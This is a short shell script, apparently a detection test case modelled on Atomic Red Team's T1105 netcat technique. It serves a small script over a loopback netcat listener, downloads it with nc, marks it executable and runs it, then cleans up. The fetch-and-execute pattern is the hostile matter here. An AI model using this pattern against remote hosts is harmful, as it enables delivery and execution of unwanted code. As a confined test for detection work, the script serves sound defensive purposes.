#!/bin/sh
# case: T1105-nc-download
# technique: Script fetched with netcat and run
# source: redcanaryco/atomic-red-team T1105 Ingress Tool Transfer (nc)
# needs: nc
# expect: net file drift exec
# where: container
# image: busybox debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
W=${TMPDIR:-/tmp}/ho.$$; mkdir -p "$W" || exit 77
trap 'cd / && rm -rf "$W"' EXIT; trap 'exit 1' INT TERM
need nc
P=$((20000 + $$ % 20000)); (printf '#!/bin/sh\nid >/dev/null\n'; sleep 1) | nc -l -s 127.0.0.1 -p "$P" >/dev/null 2>&1 & L=$!
sleep 1; nc -w 2 127.0.0.1 "$P" </dev/null > "$W/t" 2>/dev/null; chmod 755 "$W/t"; "$W/t" 2>/dev/null; kill "$L" 2>/dev/null; wait 2>/dev/null; true
exit 0
